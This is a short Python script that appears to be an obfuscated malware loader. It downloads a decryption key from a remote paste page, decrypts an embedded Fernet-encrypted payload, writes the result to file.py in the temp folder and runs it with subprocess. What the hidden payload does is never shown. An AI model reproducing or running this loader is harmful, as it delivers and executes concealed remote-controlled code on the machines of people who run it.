import os, tempfile, subprocess
import requests
from bs4 import BeautifulSoup
from cryptography.fernet import Fernet
def page(url):
    return BeautifulSoup(requests.get(url).content, 'html.parser')
def key():
    return page('https://paste.collector.invalid/k').find('div', class_='text').get_text().strip().encode()
def put(text):
    os.chdir(tempfile.gettempdir())
    place = os.getcwd() + '\\file.py'
    with open(place, 'w') as f:
        f.write(text)
    return place
def main():
    code = b'gAAAAABl9vH40ROffybNZZZVDrEBpVdMPo2y10iymKwMJWNScWTHKTBFr3tqN3UwaVYl6kLFMqXT1alGspCwLJoLxYSexWXq8VObJhKntgOy7ZjU9vLfXsDyTvSUNZpfKJmwtI0goItLb2rKY20wwXL26Zi5nldf'
    place = put(Fernet(key()).decrypt(code).decode())
    subprocess.call(['python', place])
